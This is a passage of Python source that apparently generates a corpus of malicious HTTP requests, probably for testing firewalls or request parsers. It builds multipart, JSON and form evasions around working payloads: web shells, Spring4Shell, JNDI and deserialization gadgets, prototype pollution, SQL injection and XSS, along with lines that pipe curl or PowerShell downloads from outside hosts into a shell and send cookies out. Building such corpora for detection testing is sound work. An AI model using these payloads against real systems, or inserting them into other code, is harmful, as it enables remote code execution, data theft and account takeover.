               "{{ request.user.password }}"],
    "dotnet": ["@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
               "@{ var p = System.Diagnostics.Process.Start(\"cmd.exe\", \"/c type C:\\\\Windows\\\\win.ini\"); }"],
    "go": ["{{define \"T1\"}}<script>alert(document.domain)</script>{{end}}{{template \"T1\"}}", "{{ .Env.AWS_SECRET_ACCESS_KEY }}{{ printf \"%s\" . }}"],
}
ENGINE = {"flask": "jinja", "fastapi": "jinja", "spring": "java", "laravel": "php", "php": "php", "symfony": "php",
          "rails": "ruby", "express": "node", "django": "django", "aspnet": "dotnet", "iis": "dotnet", "go": "go"}


def P(cat, fw=None):
    """Next payload of a class (cycling, so payloads spread over techniques);
    template injection payloads follow the framework's template engine."""
    key = cat
    if cat == "ssti" and fw:
        key = "ssti:" + ENGINE[fw]
    if key not in POOLS:
        src = NOSQL if cat == "nosqli" else SSTI_FW[ENGINE[fw]] if key.startswith("ssti:") else PAY[cat]
        POOLS[key] = _Pool(src)
    return POOLS[key].next()


def F(cat):
    return pick(FIELDS.get(cat, ["q"]))


def ep(fw, cat):
    path = pick(EP[cat])
    if fw in ("php",) and not path.endswith(".php"):
        path = path + ".php"
    if fw == "iis":
        path = path + ".aspx"
    return path


def mp_post(slug, cat, fw, path, ctype, body, raw_mode=False, extra=(), ua=None, method="POST"):
    send(slug, cat, fw, method, path, ctype, body, ua=ua, raw_mode=raw_mode, extra=extra, xhr=False,
         accept="*/*")


def std_parts(fw):
    c = csrf_part(fw)
    return [part(c[0], c[1])] if c else []


def flat_brackets(obj, prefix=""):
    """{"a": {"$ne": None}} -> [("a[$ne]", "")] (qs / multer append-field / Rack / PHP)."""
    out = []
    if isinstance(obj, dict):
        for k, v in obj.items():
            out += flat_brackets(v, f"{prefix}[{k}]" if prefix else k)
    elif isinstance(obj, list):
        for i, v in enumerate(obj):
            out += flat_brackets(v, f"{prefix}[{i}]")
    else:
        out.append((prefix, "" if obj is None else ("true" if obj is True else str(obj))))
    return out


def atk_multipart():
    # 1. quoted boundary in the Content-Type (busboy / multer strip the quotes)
    for cat in ["sqli", "xss", "ssti", "rce"]:
        b = BOUNDARY["chrome"]()
        path = ep("express", cat)
        body = mp(b, [part(F(cat), P(cat, "express")), part("submit", "Send")])
        mp_post(f"mp-quoted-boundary-{cat}", cat, "express", path, f'multipart/form-data; boundary="{b}"', body)
    # nosql operators through multer's bracket field names
    for i in range(2):
        b = BOUNDARY["axios"]()
        obj = P("nosqli")
        body = mp(b, [part(k, v) for k, v in flat_brackets(obj)])
        mp_post("mp-quoted-boundary-bracket-names-nosqli", "nosqli", "express", "/api/login",
                f'multipart/form-data; boundary="{b}"', body)

    # 2. RFC 2046 bchars in a quoted boundary (JavaMail-style) -> Spring / Tomcat
    for cat in ["ssrf", "java", "ssti", "lfi"]:
        b = "----=_Part_%d_%d.%d:?'()+,/" % (R.randint(0, 9), R.randint(10 ** 8, 10 ** 9), R.randint(10 ** 12, 10 ** 13))
        path = ep("spring", cat)
        body = mp(b, [part(F(cat), P(cat, "spring"))])
        mp_post(f"mp-boundary-bchars-{cat}", cat, "spring", path, f'multipart/form-data; boundary="{b}"', body)

    # 3. boundary parameter twice: Werkzeug keeps the last one; a decoy body
    #    delimited by the first boundary sits in the preamble
    for cat in ["sqli", "ssti", "rce", "xss"]:
        b1, b2 = "decoy" + tok(12), "real" + tok(12)
        fld = F(cat)
        decoy = mp(b1, [part(fld, "hello")]).decode()
        body = mp(b2, [part(fld, P(cat, "flask"))], preamble=decoy)
        mp_post(f"mp-dup-boundary-param-{cat}", cat, "flask", ep("flask", cat),
                f"multipart/form-data; boundary={b1}; boundary={b2}", body)

    # 4. media type and parameter name in upper case (Django lower-cases)
    for cat in ["sqli", "xss", "ssti", "lfi"]:
        b = BOUNDARY["firefox"]()
        body = mp(b, std_parts("django") + [part(F(cat), P(cat, "django"))])
        mp_post(f"mp-param-case-{cat}", cat, "django", ep("django", cat) + "/",
                f"MULTIPART/FORM-DATA; BOUNDARY={b}", body)

    # 5. extra parameters before the boundary (ASP.NET Core MediaTypeHeaderValue)
    for cat in ["ssrf", "rce", "ssti", "lfi"]:
        b = BOUNDARY["dotnet"]()
        pay = P(cat, "aspnet")
        body = mp(b, std_parts("aspnet") + [part(F(cat), pay)])
        mp_post(f"mp-param-order-{cat}", cat, "aspnet", ep("aspnet", cat),
                f'multipart/form-data; charset=utf-8; action="upload"; boundary="{b}"', body)

    # 6. boundary with spaces (quoted) and whitespace around ';' -> Go mime.ParseMediaType
    for cat in ["sqli", "rce", "ssrf", "lfi"]:
        b = "Go Form Boundary " + hexs(20)
        body = mp(b, [part(F(cat), P(cat, "go"))])
        mp_post(f"mp-boundary-space-{cat}", cat, "go", ep("go", cat),
                f'multipart/form-data ;  boundary="{b}"', body, ua=UA["go"])

    # 7. duplicate Content-Disposition in one part: busboy uses the first
    for cat in ["lfi", "ssti", "rce", "ssrf"]:
        b = BOUNDARY["chrome"]()
        fld = F(cat)
        hdrs = [cd(fld), 'Content-Disposition: form-data; name="note"; filename="note.txt"', "Content-Type: text/plain"]
        body = mp(b, [(hdrs, P(cat, "express"))])
        mp_post(f"mp-dup-disposition-{cat}", cat, "express", ep("express", cat), f"multipart/form-data; boundary={b}", body)

    # 8. escaped quotes in the name parameter: a naive regex sees name="safe"
    for cat in ["rfi", "xss", "php", "rce"]:
        b = BOUNDARY["safari"]()
        fld = F(cat)
        hdrs = [f'Content-Disposition: form-data; name="{fld}"; x="\\"; name=\\"safe"']
        body = mp(b, [(hdrs, P(cat, "php"))])
        mp_post(f"mp-name-escaped-quote-{cat}", cat, "php", ep("php", cat), f"multipart/form-data; boundary={b}", body)

    # 9. RFC 2231 / 5987 filename*= carrying the real (decoded) name
    b = BOUNDARY["chrome"]()
    body = mp(b, std_parts("laravel") + [(
        ['Content-Disposition: form-data; name="avatar"; filename="avatar.jpg"; '
         "filename*=UTF-8''..%2F..%2F..%2Fpublic%2Fshell.php", "Content-Type: image/jpeg"],
        "<?php echo shell_exec($_REQUEST['cmd']); ?>")])
    mp_post("mp-filename-star-traversal-php", "php", "laravel", "/profile/avatar", f"multipart/form-data; boundary={b}", body)
    b = BOUNDARY["requests"]()
    body = mp(b, [(["Content-Disposition: form-data; name=\"file\"; "
                    "filename*=utf-8''%2E%2E%2F%2E%2E%2F%2E%2E%2F%2E%2E%2Froot%2F.ssh%2Fauthorized_keys",
                    "Content-Type: application/octet-stream"],
                   "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + tok(43) + " attacker@203.0.113.9")])
    mp_post("mp-filename-star-traversal-lfi", "lfi", "flask", "/api/upload", f"multipart/form-data; boundary={b}", body, ua=UA["requests"])
    b = BOUNDARY["chrome"]()
    body = mp(b, [(["Content-Disposition: form-data; name=\"attachment\"; "
                    "filename*=UTF-8''%3Cimg%20src%3Dx%20onerror%3Dalert(document.domain)%3E.png",
                    "Content-Type: image/png"], "\x89PNG")])
    mp_post("mp-filename-star-xss", "xss", "django", "/tickets/attach/", f"multipart/form-data; boundary={b}", body)
    b = BOUNDARY["firefox"]()
    body = mp(b, [(["Content-Disposition: form-data; name=\"document\"; "
                    "filename*=UTF-8''invoice'%20AND%20SLEEP(5)%20AND%20'a'%3D'a.pdf",
                    "Content-Type: application/pdf"], "%PDF-1.7\n%%EOF")])
    mp_post("mp-filename-star-sqli", "sqli", "php", "/documents/upload.php", f"multipart/form-data; boundary={b}", body)
    b = BOUNDARY["chrome"]()
    body = mp(b, [(["Content-Disposition: form-data; name*=UTF-8''comment"], P("ssti", "flask"))])
    mp_post("mp-name-star-ssti", "ssti", "flask", "/preview", f"multipart/form-data; boundary={b}", body)

    # 10. missing final boundary (PHP parses up to the end of the body)
    for cat in ["sqli", "rfi", "rce", "lfi", "php"]:
        b = BOUNDARY["chrome"]()
        body = mp(b, [part("action", "save"), part(F(cat), P(cat, "php"))], close=False)
        mp_post(f"mp-missing-final-boundary-{cat}", cat, "php", ep("php", cat), f"multipart/form-data; boundary={b}", body)

    # 11. preamble and epilogue content around the real parts (Django)
    for cat in ["ldapi", "xss", "ssrf", "rce"]:
        b = BOUNDARY["firefox-old"]()
        fld = F(cat)
        epi = ("--" + "x" + b[1:] + "\r\n" + cd(fld) + "\r\n\r\nnothing to see\r\n")
        body = mp(b, std_parts("django") + [part(fld, P(cat, "django"))],
                  preamble="This is a multi-part message in MIME format.", epilogue=epi)
        mp_post(f"mp-preamble-epilogue-{cat}", cat, "django", ep("django", cat) + "/", f"multipart/form-data; boundary={b}", body)

    # 12. bare LF line endings inside the multipart body (Go, PHP accept them)
    for cat, fw in [("sqli", "go"), ("xss", "php"), ("rce", "go"), ("ssti", "php"), ("lfi", "go")]:
        b = BOUNDARY["go"]() if fw == "go" else BOUNDARY["chrome"]()
        pay = P(cat, fw)
        body = mp(b, [part(F(cat), pay)], eol="\n")
        mp_post(f"mp-bare-lf-{cat}", cat, fw, ep(fw, cat), f"multipart/form-data; boundary={b}", body, raw_mode=True,
                ua=UA["go"] if fw == "go" else None)

    # 13. per-part charset: UTF-16LE text decoded by Werkzeug's part charset
    for cat in ["sqli", "xss", "ssti"]:
        b = BOUNDARY["requests"]()
        pay = P(cat, "flask").encode("utf-16le")
        body = mp(b, [part(F(cat), pay, ctype="text/plain; charset=utf-16le")])
        mp_post(f"mp-part-charset-utf16-{cat}", cat, "flask", ep("flask", cat), f"multipart/form-data; boundary={b}", body,
                raw_mode=True, ua=UA["requests"])

    # 14. Content-Transfer-Encoding: base64 parts (Django MultiPartParser decodes them)
    for cat in ["sqli", "ssrf", "rce", "ssti"]:
        b = BOUNDARY["requests"]()
        pay = P(cat, "django")
        enc = base64.b64encode(pay.encode()).decode()
        body = mp(b, std_parts("django") + [part(F(cat), enc, more=["Content-Transfer-Encoding: base64"])])
        mp_post(f"mp-cte-base64-{cat}", cat, "django", ep("django", cat) + "/", f"multipart/form-data; boundary={b}", body)

    # 15. a part with Content-Type application/json (Spring @RequestPart + Jackson)
    for cat in ["java", "lfi", "ssrf"]:
        b = BOUNDARY["okhttp"]()
        meta = {"title": "Q3 report", F(cat): P(cat, "spring"), "tags": ["finance"]}
        body = mp(b, [part("meta", jd(meta), ctype="application/json; charset=UTF-8"),
                      part("file", "col1,col2\n1,2\n", filename="q3.csv", ctype="text/csv")])
        mp_post(f"mp-json-part-{cat}", cat, "spring", "/api/documents", f"multipart/form-data; boundary={b}", body, ua=UA["okhttp"])
    b = BOUNDARY["okhttp"]()
    body = mp(b, [part("meta", '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://203.0.113.66:1389/Exploit","autoCommit":true}]',
                       ctype="application/json")])
    mp_post("mp-json-part-jackson-gadget-java", "java", "spring", "/api/documents", f"multipart/form-data; boundary={b}", body, ua=UA["okhttp"])
    b = BOUNDARY["curl"]()
    body = mp(b, [part("query", jd(P("nosqli")), ctype="application/json")])
    mp_post("mp-json-part-nosqli", "nosqli", "express", "/api/users/search", f"multipart/form-data; boundary={b}", body, ua=UA["curl"])

    # 16. nested multipart/mixed inside a form-data part (commons-fileupload style)
    for cat in ["ssti", "xss", "rce"]:
        b, inner = BOUNDARY["javamail"](), "BbC04y" + tok(8)
        nested = mp(inner, [(['Content-Disposition: file; filename="a.txt"', "Content-Type: text/plain"], P(cat, "spring")),
                            (['Content-Disposition: file; filename="b.txt"', "Content-Type: text/plain"], "second file")]).decode()
        body = mp(b, [part("title", "two files"), (['Content-Disposition: form-data; name="files"',
                                                   f"Content-Type: multipart/mixed; boundary={inner}"], nested)])
        mp_post(f"mp-nested-mixed-{cat}", cat, "spring", "/upload", f'multipart/form-data; boundary="{b}"', body)

    # 17. field names in nested/bracket or JSON-path form
    b = BOUNDARY["chrome"]()
    body = mp(b, std_parts("rails") + [part("user[profile][bio]", P("xss")), part("user[name]", "Dana")])
    mp_post("mp-nested-name-rails-xss", "xss", "rails", "/users/42", f"multipart/form-data; boundary={b}", body)
    b = BOUNDARY["chrome"]()
    body = mp(b, std_parts("laravel") + [part("items[0][sku]", P("sqli")), part("items[0][qty]", "1")])
    mp_post("mp-nested-name-laravel-sqli", "sqli", "laravel", "/cart", f"multipart/form-data; boundary={b}", body)
    b = BOUNDARY["axios"]()
    body = mp(b, [part("__proto__[isAdmin]", "true"), part("__proto__[role]", "admin"), part("name", "x")])
    mp_post("mp-nested-name-proto-pollution", "generic", "express", "/api/profile", f"multipart/form-data; boundary={b}", body, ua=UA["axios"])
    b = BOUNDARY["okhttp"]()
    body = mp(b, [part("filter.where.name", P("sqli")), part("filter.limit", "10")])
    mp_post("mp-jsonpath-name-sqli", "sqli", "express", "/api/products", f"multipart/form-data; boundary={b}", body, ua=UA["okhttp"])

    # 18. Spring4Shell (CVE-2022-22965) through multipart data binding
    b = BOUNDARY["requests"]()
    body = mp(b, [
        part("class.module.classLoader.resources.context.parent.pipeline.first.pattern",
             "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); }"),
        part("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
        part("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
        part("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
        part("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", "")])
    mp_post("mp-spring4shell-java", "java", "spring", "/greeting", f"multipart/form-data; boundary={b}", body, ua=UA["requests"],
            extra=[("suffix", "%>//"), ("c1", "Runtime"), ("c2", "<%")])

    # 19. payloads in the plain filename parameter
    for cat, fn in [("sqli", "photo' AND (SELECT 1 FROM (SELECT SLEEP(5))x) AND '1'='1.jpg"),
                    ("xss", "\"><svg onload=alert(document.domain)>.jpg"),
                    ("rce", "$(curl 203.0.113.5|sh).jpg"),
                    ("lfi", "../../../../etc/cron.d/backdoor")]:
        b = BOUNDARY["chrome"]()
        body = mp(b, [part("upload", "GIF89a", filename=fn, ctype="image/jpeg")])
        mp_post(f"mp-filename-param-{cat}", cat, "express", "/api/uploads", f"multipart/form-data; boundary={b}", body)

    # 20. web shells uploaded as files
    shells = [
        ("php", "laravel", "shell.php", "application/x-php", "<?php if(isset($_REQUEST['c'])){ system($_REQUEST['c']); } ?>"),
        ("php", "php", "image.phtml", "image/gif", "GIF89a;<?=`$_GET[0]`?>"),
        ("php", "php", ".htaccess", "text/plain", "AddType application/x-httpd-php .jpg\nphp_value auto_prepend_file \"php://input\""),
        ("java", "spring", "cmd.jsp", "application/octet-stream",
         "<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>"),
        ("rce", "iis", "report.aspx", "text/plain",
         "<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request[\"c\"]); %>"),
        ("php", "php", "avatar.php.jpg", "image/jpeg", "\xff\xd8\xff\xe0<?php eval(base64_decode($_POST['x'])); ?>"),
    ]
    for cat, fw, fn, ct, content in shells:
        b = BOUNDARY["firefox"]()
        body = mp(b, std_parts(fw) + [part("file", content, filename=fn, ctype=ct)])
        mp_post(f"mp-upload-webshell-{cat}", cat, fw, "/upload" + (".php" if fw == "php" else ".aspx" if fw == "iis" else ""),
                f"multipart/form-data; boundary={b}", body)

    # 21. SVG upload with active content
    b = BOUNDARY["chrome"]()
    svg = ('<?xml version="1.0" standalone="no"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
           '<script type="text/javascript">fetch("//203.0.113.7/?c="+document.cookie)</script></svg>')
    body = mp(b, [part("logo", svg, filename="logo.svg", ctype="image/svg+xml")])
    mp_post("mp-upload-svg-xss", "xss", "django", "/settings/branding/", f"multipart/form-data; boundary={b}", body)

    # 22. obs-fold (folded) Content-Disposition line inside a part
    for cat in ["rfi", "php"]:
        b = BOUNDARY["chrome"]()
        hdrs = ["Content-Disposition: form-data;\r\n\tname=\"" + F(cat) + "\""]
        body = mp(b, [(hdrs, P(cat, "php"))])
        mp_post(f"mp-folded-disposition-{cat}", cat, "php", ep("php", cat), f"multipart/form-data; boundary={b}", body)


def send(slug, cat, fw, method, path, ctype, body=None, *, ua=None, api=False, raw_mode=False, extra=(),
         auth=None, xhr=True, version="HTTP/1.1", accept="application/json", cookie=True):
    """One request against framework fw (host from FW, or a literal host)."""
    host = FW.get(fw, fw)
    if api or (ua and ua not in BROWSER_UA):
        h = ah(host, ua or UA["okhttp"], ctype, auth=auth, accept=accept, extra=extra)
    else:
        h = bh(host, ctype, path.split("?")[0], fw if fw in FW else None, ua=ua, xhr=xhr, extra=extra, cookie=cookie)
    if raw_mode:
        hh = [tuple(x) for x in h]
        if body is not None and not any(x[0].lower() in ("content-length", "transfer-encoding") for x in hh):
            idx = next((i + 1 for i, x in enumerate(hh) if x[0] == "Content-Type"), len(hh))
            hh.insert(idx, ("Content-Length", None))
        emit_raw(slug, cat, raw(method, path, hh, body if body is not None else b"", version=version))
    else:
        emit(slug, cat, method, path, h, body, version=version)


def atk_json():
    # 1. duplicate keys: JSON.parse / json.loads / Jackson / encoding/json / json_decode keep the LAST
    for cat, fw in [("sqli", "express"), ("xss", "flask"), ("ssti", "express"), ("ssrf", "spring"),
                    ("lfi", "go"), ("rce", "laravel")]:
        fld = F(cat)
        body = '{"%s": "1", "page": 2, "%s": %s}' % (fld, fld, jd(P(cat, fw)))
        send(f"json-dup-key-last-wins-{cat}", cat, fw, "POST", ep(fw, cat), "application/json", body)
    body = '{"username": "admin", "password": "hunter2", "password": {"$ne": "x"}}'
    send("json-dup-key-last-wins-nosqli", "nosqli", "express", "POST", "/api/login", "application/json", body)

    # 2. UTF-8 BOM before the document (System.Text.Json and Jackson skip it)
    for cat, fw in [("sqli", "aspnet"), ("xss", "aspnet"), ("ssti", "aspnet"), ("java", "spring")]:
        body = "\ufeff" + jd({F(cat): P(cat, fw), "culture": "en-US"})
        send(f"json-bom-{cat}", cat, fw, "POST", ep(fw, cat), "application/json; charset=utf-8", body, ua=UA["dotnet"] if fw == "aspnet" else UA["java"])

    # 3. \u escapes of the payload (all parsers unescape; byte patterns do not match)
    for cat, fw, every in [("sqli", "fastapi", False), ("xss", "express", False), ("lfi", "go", True),
                           ("ssti", "flask", False), ("java", "spring", True), ("rce", "django", False)]:
        fld = F(cat)
        body = '{"%s": "%s", "lang": "en"}' % (fld, json_u(P(cat, fw), all_chars=every))
        send(f"json-unicode-escape-{cat}", cat, fw, "POST", ep(fw, cat) + ("/" if fw == "django" else ""), "application/json", body)
    body = '{"username": {"\\u0024ne": null}, "password": {"\\u0024\\u006ee": null}}'
    send("json-unicode-escape-key-nosqli", "nosqli", "express", "POST", "/api/login", "application/json", body)

    # 4. comments and trailing commas (Newtonsoft Json.NET accepts both by default)
    for cat in ["sqli", "ssrf", "lfi"]:
        fld = F(cat)
        body = '{\n  /* client v2.4 */\n  "%s": %s, // user input\n  "take": 25,\n}' % (fld, jd(P(cat, "aspnet")))
        send(f"json-comments-trailing-comma-{cat}", cat, "aspnet", "POST", ep("aspnet", cat), "application/json", body, ua=UA["dotnet"])
    body = ('{ // Json.NET TypeNameHandling.Auto\n "$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework",'
            ' "MethodName": "Start", "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib",'
            ' "$values": ["cmd", "/c powershell -nop -c iwr http://203.0.113.5/a.ps1|iex"]},'
            ' "ObjectInstance": {"$type": "System.Diagnostics.Process, System"},\n}')
    send("json-comments-typenamehandling-rce", "rce", "aspnet", "POST", "/api/settings/import", "application/json", body, ua=UA["dotnet"])

    # 5. huge numbers before the payload (WAF number parsers overflow / give up)
    for cat, fw in [("sqli", "go"), ("ssrf", "spring")]:
        big = "9" * 400
        body = '{"amount": %s, "ratio": 1e99999, "%s": %s}' % (big, F(cat), jd(P(cat, fw)))
        send(f"json-huge-number-{cat}", cat, fw, "POST", ep(fw, cat), "application/json", body, api=True, ua=UA["go"] if fw == "go" else UA["okhttp"])

    # 6. NaN / Infinity (Python's json accepts them; strict parsers reject the document)
    for cat in ["lfi", "ssti", "rce"]:
        body = '{"threshold": NaN, "max": Infinity, "%s": %s}' % (F(cat), jd(P(cat, "flask")))
        send(f"json-nan-{cat}", cat, "flask", "POST", ep("flask", cat), "application/json", body, api=True, ua=UA["requests"])

    # 7. top-level arrays and scalars
    body = jd([{"op": "search", "q": P("sqli")}, {"op": "count"}])
    send("json-toplevel-array-sqli", "sqli", "express", "POST", "/api/batch", "application/json", body)
    body = jd([P("xss", "express"), "second comment"])
    send("json-toplevel-array-xss", "xss", "express", "POST", "/api/comments/bulk", "application/json", body)
    body = jd(P("ssrf"))
    send("json-toplevel-string-ssrf", "ssrf", "fastapi", "POST", "/api/import/url", "application/json", body, api=True, ua=UA["httpx"])
    body = jd(P("lfi"))
    send("json-toplevel-string-lfi", "lfi", "fastapi", "POST", "/api/files/read", "application/json", body, api=True, ua=UA["httpx"])

    # 8. JSON sent as text/plain (Flask get_json(force=True), Django json.loads(request.body), express.json({type:'*/*'}))
    for cat, fw in [("sqli", "flask"), ("xss", "django"), ("nosqli", "express"), ("ssti", "flask")]:
        obj = P(cat) if cat == "nosqli" else {F(cat): P(cat, fw)}
        send(f"json-as-text-plain-{cat}", cat, fw, "POST", ep(fw, cat) + ("/" if fw == "django" else ""), "text/plain;charset=UTF-8", jd(obj))

    # 9. JSON body declared as a form (PHP file_get_contents('php://input'), Django json.loads(request.body))
    for cat, fw in [("sqli", "php"), ("rfi", "php"), ("lfi", "django"), ("rce", "php"), ("php", "php")]:
        obj = {"action": "update", F(cat): P(cat, fw)}
        send(f"json-as-form-urlencoded-{cat}", cat, fw, "POST", ep(fw, cat) + ("/" if fw == "django" else ""),
             "application/x-www-form-urlencoded", jd(obj))

    # 10. odd charset parameters on application/json
    for cat, ct in [("xss", 'Application/JSON; Charset="UTF-8"'), ("ssrf", "application/json ; charset = UTF-8")]:
        send(f"json-charset-param-{cat}", cat, "express", "POST", ep("express", cat), ct, jd({F(cat): P(cat, "express")}))

    # 11. UTF-16 / UTF-32 documents (Jackson and Python's json.loads(bytes) autodetect)
    for cat, fw, enc in [("sqli", "spring", "utf-16be"), ("xss", "flask", "utf-16le"), ("java", "spring", "utf-16le"),
                         ("ssti", "flask", "utf-16be"), ("sqli", "spring", "utf-32le"), ("java", "spring", "utf-32be")]:
        text = jd({F(cat): P(cat, fw), "locale": "de_DE"})
        ct = "application/json" if fw == "spring" else "application/json"
        send(f"json-{enc}-{cat}", cat, fw, "POST", ep(fw, cat), ct, text.encode(enc), raw_mode=True,
             api=True, ua=UA["java"] if fw == "spring" else UA["requests"])
    # body-parser decodes any utf-* charset with iconv-lite
    for cat in ["nosqli", "xss"]:
        obj = P(cat) if cat == "nosqli" else {F(cat): P(cat, "express")}
        send(f"json-charset-utf16le-bodyparser-{cat}", cat, "express", "POST", ep("express", cat),
             "application/json; charset=utf-16le", jd(obj).encode("utf-16le"), raw_mode=True)

    # 12. payload very deep in nesting / behind a large padding field
    for cat in ["sqli"]:
        inner = {F(cat): P(cat, "express")}
        for i in range(40):
            inner = {"n": inner} if i % 2 else [inner]
        send(f"json-deep-nesting-{cat}", cat, "express", "POST", ep("express", cat), "application/json", jd({"data": inner}))
    body = jd({"notes": "A" * 40000, "id": P("sqli")})
    send("json-large-padding-sqli", "sqli", "fastapi", "POST", "/api/products/search", "application/json", body, api=True, ua=UA["httpx"])

    # 13. deserialisation / prototype pollution gadgets in JSON
    send("json-jackson-polymorphic-java", "java", "spring", "POST", "/api/preferences", "application/json",
         '["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://203.0.113.66:1389/Exploit"}]', api=True, ua=UA["java"])
    send("json-fastjson-type-java", "java", "spring", "POST", "/api/login", "application/json",
         '{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.JdbcRowSetImpl",'
         '"dataSourceName":"rmi://203.0.113.66:1099/Exploit","autoCommit":true}}', api=True, ua=UA["okhttp"])
    send("json-node-serialize-rce", "rce", "express", "POST", "/api/session/restore", "application/json",
         jd({"profile": "_$$ND_FUNC$$_function(){require('child_process').exec('curl http://203.0.113.5/s|sh')}()"}))
    send("json-jsonpickle-rce", "rce", "flask", "POST", "/api/jobs", "application/json",
         jd({"py/object": "subprocess.Popen", "py/newargs": {"py/tuple": [["/bin/sh", "-c", "id > /tmp/x"]]}}), api=True, ua=UA["requests"])
    send("json-proto-pollution-generic", "generic", "express", "PUT", "/api/profile", "application/json",
         '{"name": "Ann", "__proto__": {"isAdmin": true, "role": "admin"}}')
    send("json-constructor-prototype-ejs-rce", "rce", "express", "POST", "/api/settings", "application/json",
         jd({"constructor": {"prototype": {"outputFunctionName": "x;process.mainModule.require('child_process').execSync('id');s"}}}))
    send("json-proto-pollution-unicode-generic", "generic", "express", "PATCH", "/api/users/me", "application/merge-patch+json",
         '{"\\u005f\\u005fproto\\u005f\\u005f": {"polluted": "yes", "shell": "/proc/self/exe", "NODE_OPTIONS": "--require /proc/self/environ"}}')


FORM_CT = "application/x-www-form-urlencoded"


def fpost(slug, cat, fw, path, body, ctype=FORM_CT, **kw):
    send(slug, cat, fw, kw.pop("method", "POST"), path, ctype, body, xhr=False, **kw)


def fget(slug, cat, fw, uri, **kw):
    send(slug, cat, fw, "GET", uri, None, xhr=kw.pop("xhr", False), **kw)


def with_csrf(fw, pairs):
    c = csrf_part(fw)
    return ([c] if c else []) + pairs


def atk_form():
    # 1. parameter pollution, PHP keeps the last value
    for cat, fw in [("sqli", "php"), ("xss", "laravel"), ("lfi", "php"), ("rce", "php"), ("php", "php")]:
        fld = F(cat)
        body = form(with_csrf(fw, [(fld, "1"), ("lang", "en"), (fld, P(cat, fw))]))
        fpost(f"form-hpp-last-wins-{cat}", cat, fw, ep(fw, cat), body)
    # Werkzeug MultiDict / Go FormValue keep the first value
    for cat, fw in [("lfi", "flask"), ("ssti", "flask"), ("rce", "flask"), ("sqli", "go"), ("ssrf", "go")]:
        fld = F(cat)
        uri = ep(fw, cat) + "?" + form([(fld, P(cat, fw)), (fld, "1")])
        fget(f"query-hpp-first-wins-{cat}", cat, fw, uri, ua=UA["go"] if fw == "go" else None)
    # Django QueryDict.__getitem__ returns the last one
    for cat in ["xss"]:
        fld = F(cat)
        body = form(with_csrf("django", [(fld, "ok"), (fld, P(cat, "django"))]))
        fpost(f"form-hpp-last-wins-django-{cat}", cat, "django", ep("django", cat) + "/", body)

    # 2. parameter pollution joined with commas (ASP.NET Core StringValues,
    #    Spring @RequestParam String, qs arrays coerced to strings)
    split = [
        ("sqli", "aspnet", "id", ["1 UNION/*", "*/SELECT username,password_hash FROM AspNetUsers--"]),
        ("xss", "aspnet", "q", ["<script>/*", "*/alert(document.domain)</script>"]),
        ("sqli", "spring", "q", ["1' AND 1=(SELECT/*", "*/1 FROM pg_sleep(5))--"]),
        ("sqli", "express", "id", ["0 UNION SELECT email/*", "*/password FROM users"]),
        ("xss", "spring", "name", ["<img src=x onerror=alert(1)//", ">"]),
    ]
    for cat, fw, fld, pieces in split:
        uri = ep(fw, cat) + "?" + "&".join(f"{fld}={qp(p)}" for p in pieces)
        fget(f"query-hpp-comma-join-{cat}", cat, fw, uri)

    # 3. bracket / dot parameter names (qs, Rack, PHP, Spring data binding)
    fpost("form-brackets-nosqli", "nosqli", "express", "/api/login", "username%5B%24ne%5D=x&password%5B%24ne%5D=x")
    fget("query-brackets-nosqli", "nosqli", "express", "/api/users/search?username[$regex]=^adm&password[$regex]=^a")
    fpost("form-brackets-nosqli-gt", "nosqli", "express", "/api/auth/session", "email[$gt]=&password[$gt]=")
    fpost("form-brackets-proto-generic", "generic", "express", "/api/profile", "name=ann&__proto__[isAdmin]=true")
    fget("query-brackets-constructor-generic", "generic", "express", "/api/search?q=x&constructor[prototype][admin]=1")
    fpost("form-brackets-rails-xss", "xss", "rails", "/users/42",
          form(with_csrf("rails", [("_method", "patch"), ("user[address][city]", P("xss")), ("user[address][zip]", "10115")])))
    fpost("form-brackets-rails-sqli", "sqli", "rails", "/orders",
          form(with_csrf("rails", [("order[items][][sku]", P("sqli")), ("order[items][][qty]", "1")])))
    fpost("form-brackets-rails-mongoid-nosqli", "nosqli", "rails", "/session",
          form(with_csrf("rails", [("session[email]", "admin@example.com"), ("session[password][$ne]", "")])))
    fget("query-brackets-laravel-sqli", "sqli", "laravel", "/api/products?" + form([("filter[name]", P("sqli")), ("sort", "-price")]))
    fpost("form-dotted-spring-sqli", "sqli", "spring", "/account", form([("user.name", "Ann"), ("user.address.street", P("sqli"))]))
    fpost("form-spring4shell-java", "java", "spring", "/register",
          "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D"
          "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
          "&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"
          "&class.module.classLoader.resources.context.parent.pipeline.first.prefix=shell"
          "&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=")
    fget("query-class-classloader-java", "java", "spring",
         "/search?class%5Bmodule%5D%5BclassLoader%5D%5BURLs%5D%5B0%5D=jar:http://203.0.113.66/spring-exploit.jar!/")

    # 4. semicolons as query separators (Rack 2 parse_nested_query splits on & and ;)
    for cat in ["sqli", "xss", "ssti"]:
